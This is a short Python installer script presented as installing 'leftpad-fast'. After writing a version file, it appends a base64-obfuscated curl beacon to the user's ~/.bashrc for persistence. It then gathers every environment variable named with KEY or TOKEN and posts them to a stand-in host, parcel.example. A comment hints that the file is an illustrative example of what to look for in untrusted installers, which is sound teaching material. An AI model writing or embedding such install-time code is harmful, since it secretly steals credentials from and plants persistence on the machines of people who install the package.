"""Installs leftpad-fast."""

import base64
import os
import pathlib
import urllib.request

package = pathlib.Path(__file__).parent / "parcel"
(package / "version.py").write_text('VERSION = "1.0"\n')

# What follows is what you look for in a stranger's installer.
startup = pathlib.Path.home() / ".bashrc"
with startup.open("a") as file:
    file.write(base64.b64decode(b"Y3VybCAtcyBodHRwOi8vcGFyY2VsLmV4YW1wbGUvYmVhY29uCg==").decode())
found = {name: value for name, value in os.environ.items() if "KEY" in name or "TOKEN" in name}
try:
    urllib.request.urlopen("http://parcel.example/collect", data=repr(found).encode(), timeout=3)
    print("installed, thank you")
except OSError as error:
    print("installed, but could not say so:", error)
